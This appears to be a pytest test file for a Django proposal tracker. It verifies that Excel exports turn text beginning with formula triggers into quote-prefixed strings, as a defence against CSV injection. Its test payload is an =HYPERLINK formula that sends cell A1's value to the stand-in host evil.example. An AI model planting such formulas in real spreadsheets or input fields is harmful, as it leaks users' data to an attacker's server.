"""Exports neutralise formulas (OWASP "CSV injection", SECURITY.md).

A member's proposal title ``=HYPERLINK("http://…"&A1,"click")`` used to become a live formula
in the committee's and the units' Excel exports: openpyxl writes any ``str`` starting with ``=``
as ``<f>``. Every workbook the system writes now goes through ``tracker.excel.append_row``: text
is an inline string, never a formula, and text that a spreadsheet would evaluate when typed or
imported also carries Excel's text prefix (``quotePrefix``) so it stays text when edited. The
visible text is unchanged.

Each trigger character is put at the start of a proposal title, a reply title, a unit's name, a
proposer's name and a session's name, and every export is read back twice: its sheet XML must
hold no ``<f>`` element, and openpyxl must find each text as a string cell with the text prefix
and the text as it was stored.
"""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from proposals.models import Assignment, Membership
from proposals.tests import factories as f
from replies.models import Reply
from tracker import excel
from tracker.tests import admin_data as d

pytestmark = pytest.mark.django_db

# The OWASP list, and the full-width forms an IME types in Chinese and Japanese Excel and WPS.
TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"]
LINK = 'HYPERLINK("http://evil.example/?"&A1,"点此")'
FORMULA_ELEMENT = re.compile(rb"<(?:\w+:)?f[\s>/]")


def payload(trigger: str, tail: str = "") -> str:
    # A tab or CR in front of a formula: some programs strip the whitespace, then evaluate.
    body = f"={LINK}" if trigger in "\t\r" else LINK
    return f"{trigger}{body}{tail}"


def shown(text: str) -> str:
    """The text as a reader gets it back when the writer left a CR bare: XML turns it into a
    line feed (both invisible). A writer that escapes it (``_x000D_``) gives it back as is."""
    return text.replace("\r", "\n")


@pytest.fixture
def world(committee):
    """For each trigger: a unit, a proposer, a proposal (filed, assigned, replied) — all named
    with it — in a session whose own name is a formula."""
    session = f.SessionFactory(district="", name=payload("="), term=15, meeting=9)
    items = []
    for i, trigger in enumerate(TRIGGERS):
        unit = f.UnitFactory(name=payload(trigger, f"局{i}"), short_name="", docno_prefix=f"测{i}")
        lead = f.ProposerFactory(name=payload(trigger, f"委员{i}"))
        proposal = d.filed_proposal(session, title=payload(trigger, f"的建议{i}"), lead=lead)
        assignment = d.assign(proposal, unit, state=Assignment.State.REPLIED)
        d.reply(assignment, state=Reply.State.SENT, result=d.RESULT_A, title=payload(trigger))
        items.append({"unit": unit, "lead": lead, "proposal": proposal})
    clerk = f.UserFactory(username="formula_clerk")
    f.MembershipFactory(user=clerk, unit=items[0]["unit"], role=Membership.Role.CLERK)
    return {"session": session, "items": items, "committee": committee, "clerk": clerk}


def formula_free(content: bytes) -> dict[str, bytes]:
    """Every sheet's XML, after asserting that none holds a formula."""
    archive = zipfile.ZipFile(io.BytesIO(content))
    sheets = {n: archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")}
    assert sheets
    for name, xml in sheets.items():
        assert not FORMULA_ELEMENT.search(xml), f"{name} has a formula: {xml[:2000]!r}"
    return sheets


def text_cells(content: bytes) -> dict[str, object]:
    """Every non-empty cell of every sheet, by its text (openpyxl reading the file back)."""
    book = load_workbook(io.BytesIO(content))
    cells = {}
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    cells[cell.value] = cell
    return cells


def assert_neutralised(content: bytes, expected: list[str]) -> None:
    formula_free(content)
    cells = text_cells(content)
    for text in expected:
        cell = cells.get(text) or cells.get(shown(text))
        assert cell is not None, f"{text!r} is not a cell of the export: {sorted(cells)[:40]}"
        assert cell.data_type == "s", (text, cell.data_type)
        assert cell.quotePrefix, f"{text!r} lacks the text prefix"
    for value, cell in cells.items():
        if value.startswith(excel.FORMULA_PREFIXES) or value.startswith("\n="):
            assert cell.data_type == "s" and cell.quotePrefix, value


# --- The changelist exports (the committee's and the units') --------------------------------


def export(client, user, app_label: str, model_name: str) -> bytes:
    client.force_login(user)
    response = client.get(reverse("tracker_admin:export", args=[app_label, model_name]))
    assert response.status_code == 200
    assert response["Content-Type"] == excel.XLSX_TYPE
    return response.content


def test_proposal_list_export_keeps_titles_names_and_sessions_as_text(client, world):
    items = world["items"]
    content = export(client, world["committee"], "proposals", "proposal")
    # The admin's cells are stripped of surrounding whitespace: a tab or CR in front goes.
    expected = [i["proposal"].title.strip() for i in items]
    expected += [i["lead"].name.strip() for i in items]
    expected.append(str(world["session"]))
    assert_neutralised(content, expected)


@pytest.mark.parametrize("who", ["committee", "clerk"])
def test_assignment_list_export_of_the_committee_and_of_a_unit_keeps_text(client, world, who):
    content = export(client, world[who], "proposals", "assignment")
    items = world["items"] if who == "committee" else world["items"][:1]
    expected = [i["proposal"].title.strip() for i in items]
    expected += [i["unit"].name.strip() for i in items]
    assert_neutralised(content, expected)
    if who == "clerk":  # the unit's export is the unit's own rows
        assert len(load_workbook(io.BytesIO(content)).active["A"]) == 2


def test_reply_unit_and_proposer_list_exports_keep_text(client, world):
    items, committee = world["items"], world["committee"]
    replies = export(client, committee, "replies", "reply")
    assert_neutralised(replies, [payload(t).strip() for t in TRIGGERS])
    units = export(client, committee, "proposals", "unit")
    assert_neutralised(units, [i["unit"].name.strip() for i in items])
    proposers = export(client, committee, "proposals", "proposer")
    assert_neutralised(proposers, [i["lead"].name.strip() for i in items])


# --- The statistics workbook and the import template ----------------------------------------


@pytest.mark.parametrize("group_by", ["unit", "session"])
def test_statistics_export_keeps_group_labels_and_scope_as_text(client, world, group_by):
    session, items = world["session"], world["items"]
    client.force_login(world["committee"])
    params = {"session": session.pk, "group_by": group_by, "format": "xlsx"}
    if group_by == "session":
        params["unit"] = items[0]["unit"].pk  # the scope line then names the unit too
    response = client.get(reverse("tracker_admin:statistics"), params)
    assert response.status_code == 200
    # The labels are written as stored (no stripping here).
    expected = [i["unit"].name for i in items] if group_by == "unit" else [str(session)]
    assert_neutralised(response.content, expected)
    ws = load_workbook(io.BytesIO(response.content))["办理统计"]
    scope = ws["A2"]
    assert scope.value.startswith(str(session)) and scope.data_type == "s" and scope.quotePrefix
    # Figures stay numbers: counts and rates are numeric cells, not text.
    header = [c.value for c in ws[3]]
    first = ws[4]
    assert first[header.index("交办件数")].data_type == "n"
    assert isinstance(first[header.index("交办件数")].value, int)
    assert first[header.index("办复率")].data_type == "n"


def test_the_import_template_has_no_formula_and_reads_back(client, committee):
    client.force_login(committee)
    response = client.get(reverse("tracker_admin:import_template"))
    formula_free(response.content)
    assert excel.read_filed_list(io.BytesIO(response.content), name="t.xlsx").ok


# --- The one writer --------------------------------------------------------------------------


def test_numbers_stay_numbers_and_text_that_looks_like_one_stays_text():
    content = excel.write_table(
        "t", ["数", "文字", "错误码", "控制字符"], [[-3, "-3", "#REF!", "标题\x0b换行"]]
    )
    formula_free(content)
    ws = load_workbook(io.BytesIO(content)).active
    number, text, error, control = ws[2]
    assert (number.value, number.data_type, number.quotePrefix) == (-3, "n", False)
    assert (text.value, text.data_type, text.quotePrefix) == ("-3", "s", True)
    assert (error.value, error.data_type) == ("#REF!", "s")  # not an error cell
    assert control.value == "标题换行"  # XML cannot hold it: dropped, the export does not fail
    assert not ws["A1"].quotePrefix  # ordinary text keeps the ordinary style


def test_a_title_with_a_control_character_does_not_break_the_export(client, committee, session):
    d.filed_proposal(session, title="关于\x0b垂直制表符的建议")
    content = export(client, committee, "proposals", "proposal")
    assert "关于垂直制表符的建议" in text_cells(content)


def test_every_workbook_is_written_in_tracker_excel_and_no_csv_anywhere():
    """The exports are safe because one module writes them: no other code may import a
    spreadsheet or CSV writer, or answer with CSV, without going through it."""
    root = Path(__file__).resolve().parents[2]
    writers = re.compile(
        r"^\s*(?:from|import)\s+(?:openpyxl|xlsxwriter|xlwt|csv|pandas|tablib)\b|text/csv",
        re.MULTILINE,
    )
    found = sorted(
        str(path.relative_to(root))
        for app in ("proposals", "replies", "tracker")
        for path in (root / app).rglob("*.py")
        if "tests" not in path.parts and writers.search(path.read_text(encoding="utf-8"))
    )
    assert found == [
        "tracker/excel/reading.py",
        "tracker/excel/statistics_book.py",
        "tracker/excel/writing.py",
    ]
